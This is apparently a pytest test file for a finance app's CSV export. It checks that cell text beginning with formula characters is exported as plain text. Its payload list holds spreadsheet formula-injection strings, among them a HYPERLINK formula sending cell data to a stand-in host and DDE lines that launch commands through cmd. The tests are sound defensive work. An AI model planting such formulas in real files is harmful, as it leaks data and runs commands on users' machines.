"""CSV export opened in a spreadsheet: text a bank or a person wrote never runs as a formula.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula in Excel,
LibreOffice and Google Sheets; payee text comes from third parties (a bank's export).
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy.orm import Session

from fintrack import export
from fintrack.models import Account, Category, Transaction

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(session: Session) -> list[dict[str, str]]:
    out = io.StringIO()
    export.export_transactions_csv(session, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_a_formula_is_exported_as_text(session: Session, payload: str) -> None:
    session.add_all(
        [
            Account(id=1, name=payload, currency="EUR"),
            Account(id=2, name="Savings", currency="EUR"),
            Category(id=1, name=payload),
        ]
    )
    session.flush()
    session.add_all(
        [
            Transaction(
                id=1,
                account_id=1,
                date=dt.date(2026, 1, 5),
                amount=-1234,
                payee=payload,
                category_id=1,
                notes=payload,
            ),
            Transaction(id=2, account_id=2, date=dt.date(2026, 1, 6), amount=500, payee="x"),
            Transaction(id=3, account_id=1, date=dt.date(2026, 1, 6), amount=-500, payee="x"),
        ]
    )
    session.flush()
    session.get(Transaction, 2).transfer_id = 3
    session.get(Transaction, 3).transfer_id = 2
    session.flush()

    first, second, third = exported(session)
    for column in ("account", "payee", "category", "notes"):
        assert first[column] == "'" + payload
    assert second["transfer_account"] == "'" + payload
    assert first["amount"] == "-12.34"  # a number stays a number
    assert third["amount"] == "-5.00"


def test_ordinary_text_is_left_alone(session: Session) -> None:
    session.add(Account(id=1, name="Checking", currency="EUR"))
    session.flush()
    session.add(
        Transaction(
            id=1, account_id=1, date=dt.date(2026, 1, 5), amount=-990, payee="Café 1+1", notes="a=b"
        )
    )
    session.flush()
    (row,) = exported(session)
    assert (row["account"], row["payee"], row["notes"]) == ("Checking", "Café 1+1", "a=b")
